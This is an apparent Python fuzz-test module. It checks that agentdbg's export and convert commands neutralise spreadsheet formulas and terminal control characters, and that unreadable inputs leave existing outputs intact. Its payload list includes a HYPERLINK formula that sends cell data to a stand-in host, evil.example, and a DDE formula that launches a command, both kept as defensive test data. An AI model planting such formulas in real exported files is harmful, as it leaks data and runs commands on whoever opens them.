"""Exports of hostile runs, and exports that read nothing: spreadsheet formulas and terminal
controls in every text field of a run, exported as a table (CSV, JSON Lines, Parquet) and
converted (OTLP, chat messages, a trace); inputs that cannot be read, given to export and
convert with their outputs already there and ``--force``.

Each case runs the usual commands, then the export and convert commands of
``EXPORT_COMMANDS`` (``Case.commands``), and checks what they wrote (``Case.after``): no
CSV text cell that a spreadsheet would run, no character a terminal obeys in any text
output, the exact text back from the CSV; for the inputs that give nothing, every output
that was there is still there unchanged, and no temporary file is left behind.
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Callable
from pathlib import Path

from agentdbg.exporters.table import COLUMNS, MAX_TEXT
from agentdbg.importers.builder import RunBuilder
from agentdbg.text import unescape_visible
from agentdbg.trace.format import header_line
from agentdbg.trace.writer import write_trace
from fuzz import values
from fuzz.cases import Case, write_bytes
from fuzz.classify import UNSAFE

# (command, the file it writes), ``{file}`` the case's file.
EXPORT_COMMANDS: tuple[tuple[tuple[str, ...], str], ...] = (
    (("export", "--table", "{file}", "-o", "steps.csv", "--force"), "steps.csv"),
    (("export", "--table", "{file}", "-o", "steps.jsonl", "--force"), "steps.jsonl"),
    (("export", "--table", "{file}", "-o", "steps.parquet", "--force"), "steps.parquet"),
    (("convert", "{file}", "--to", "otel-genai", "-o", "spans.json", "--force"), "spans.json"),
    (("convert", "{file}", "--to", "openai-chat", "-o", "chat.jsonl", "--force"), "chat.jsonl"),
    (("convert", "{file}", "-o", "trace.jsonl", "--force"), "trace.jsonl"),  # refuses a trace
)
COMMANDS = tuple(command for command, _ in EXPORT_COMMANDS)
TEXT_OUTPUTS = ("steps.csv", "steps.jsonl", "spans.json", "chat.jsonl", "trace.jsonl", "converted.jsonl")

# What a spreadsheet runs as a formula (OWASP's list and the ways around it), and text that
# looks like one of agentdbg's own escapes.
FORMULAS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "crlf": "\r\n=1+1",
    "spaces": "   =1+1",
    "newline": "\n@SUM(A1)",
    "quote": "'=1+1",
    "semicolon": "a;=1+1,=2",
    "number": "-5",
    "escape-text": "<U+001B>=1 <U+202E>",
}
CONTROLS = ("hostile", "osc", "csi", "dcs", "c1", "c0", "nul", "bidi", "zero-width", "surrogate", "surrogate-byte",
            "markup", "combining")
FORMULA_FIRST = "=+-@\t\r"
KEPT = b"kept as it was\n"
# Inputs that give no run, each made in the case directory under its name.
FAILING: dict[str, tuple[str, Callable[[Path], None] | None]] = {
    "missing": ("missing.jsonl", None),
    "dev-zero": ("zero.jsonl", lambda directory: os.symlink("/dev/zero", directory / "zero.jsonl")),
    "fifo": ("pipe.jsonl", lambda directory: os.mkfifo(directory / "pipe.jsonl")),
    "directory": ("folder", lambda directory: _folder(directory / "folder")),
    "empty": ("empty.jsonl", write_bytes("empty.jsonl", b"")),
    "bad-json": ("bad.json", write_bytes("bad.json", b'{"messages": [{"role": "user", "content": "x"')),
    "not-a-run": ("other.json", write_bytes("other.json", b'{"hello": "world"}\n')),
    "binary": ("random.jsonl", write_bytes("random.jsonl", bytes(range(256)) * 64)),
    "header-only": ("header.jsonl", write_bytes("header.jsonl", header_line().encode("utf-8"))),
}


def _folder(path: Path) -> None:
    path.mkdir()
    (path / "notes.txt").write_text("not a run\n", encoding="utf-8")


def _hostile_trace(name: str, text: str):
    """A trace whose every text field holds ``text``: task, name, thought, tool, arguments,
    call, observation, error, answer."""
    def make(directory: Path) -> None:
        builder = RunBuilder(text, name=text)
        builder.step(thought=text, tool=text, args=text, call=text, observation=text,
                     error_kind="exception", error_message=text)
        builder.step(thought=text, tool="search", args={text: text}, call="search[x]", observation=text)
        builder.step(thought=text, answer=text)
        write_trace(directory / name, [builder.build(verdict={"correct": False, "score": -0.5,
                                                              "expected": text, "grader": "f"})])
    return make


def _hostile_chat(name: str, text: str):
    """The same text in OpenAI chat messages: ``convert`` writes it as a trace."""
    def make(directory: Path) -> None:
        import json

        messages = [{"role": "user", "content": text},
                    {"role": "assistant", "content": text,
                     "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "search", "arguments": "{}"}}]},
                    {"role": "tool", "tool_call_id": "c1", "content": text},
                    {"role": "assistant", "content": text}]
        (directory / name).write_text(json.dumps({"messages": messages}), encoding="utf-8")  # surrogates as \ud800
    return make


def _unsafe(data: bytes, crlf: bool) -> str:
    """The first character a terminal would obey in ``data`` ("" when none); with ``crlf``,
    a carriage return before a newline is allowed (a CSV cell may hold one)."""
    text = data.decode("utf-8", "surrogateescape")
    if crlf:
        text = text.replace("\r\n", "\n")
    found = UNSAFE.search(text)
    return "" if found is None else f"U+{ord(found.group()):04X} at character {found.start():,}"


def _original(cell: str) -> str:
    return unescape_visible(cell[1:] if cell.startswith("'") else cell)


def _check_table(directory: Path, text: str) -> str:
    """What is wrong with the CSV: a cell a spreadsheet would run, an observation that does
    not come back exactly."""
    path = directory / "steps.csv"
    if not path.exists():
        return "export --table wrote no steps.csv"
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    if len(rows) != 3:
        return f"steps.csv: {len(rows)} rows, not 3"
    texts = [name for name, kind, _ in COLUMNS if kind == "string"]
    for number, row in enumerate(rows, 2):
        for name in texts:
            cell = row[name]
            if cell and (cell[0] in FORMULA_FIRST or cell.lstrip()[:1] in FORMULA_FIRST):
                return f"steps.csv line {number}: {name} starts a formula: {cell[:40]!r}"
    if _original(rows[0]["observation"]) != text[:MAX_TEXT]:
        return "steps.csv: the observation does not come back exactly"
    return ""


def _after_hostile(text: str, chat: bool):
    def after(directory: Path) -> str:
        outputs = ("converted.jsonl",) if chat else TEXT_OUTPUTS[:-2]
        for name in outputs:
            path = directory / name
            if not path.exists():
                return f"{name} was not written"
            found = _unsafe(path.read_bytes(), crlf=name.endswith(".csv"))
            if found:
                return f"{name}: {found}"
        return "" if chat else _check_table(directory, text)
    return after


def _with_outputs(make: Callable[[Path], None] | None):
    def build(directory: Path) -> None:
        for _, output in EXPORT_COMMANDS:
            (directory / output).write_bytes(KEPT)
        if make is not None:
            make(directory)
    return build


def _after_failing(directory: Path) -> str:
    for _, output in EXPORT_COMMANDS:
        path = directory / output
        if not path.exists() or path.read_bytes() != KEPT:
            return f"{output} was replaced by a command that read nothing"
    left = [name for _, _, names in os.walk(directory) for name in names if re.search(r"\.partial$|\.tmp$", name)]
    return f"temporary files left: {sorted(left)[:3]}" if left else ""


def cases() -> list[Case]:
    found: list[Case] = []
    for what, text in FORMULAS.items():
        found.append(Case(f"export/formula/{what}", "export", "formula", "run.jsonl", _hostile_trace("run.jsonl", text),
                          commands=COMMANDS, after=_after_hostile(text, chat=False)))
    for what in CONTROLS:
        text = values.STRINGS[what]
        found.append(Case(f"export/control/{what}", "export", f"string={what}", "run.jsonl",
                          _hostile_trace("run.jsonl", text), commands=COMMANDS, after=_after_hostile(text, chat=False)))
        found.append(Case(f"export/control-chat/{what}", "export", f"string={what}", "chat.json",
                          _hostile_chat("chat.json", text), after=_after_hostile(text, chat=True)))
    for what, (name, make) in FAILING.items():
        found.append(Case(f"export/reads-nothing/{what}", "export", what, name, _with_outputs(make),
                          commands=COMMANDS, blocking=what == "fifo", after=_after_failing))
    return found

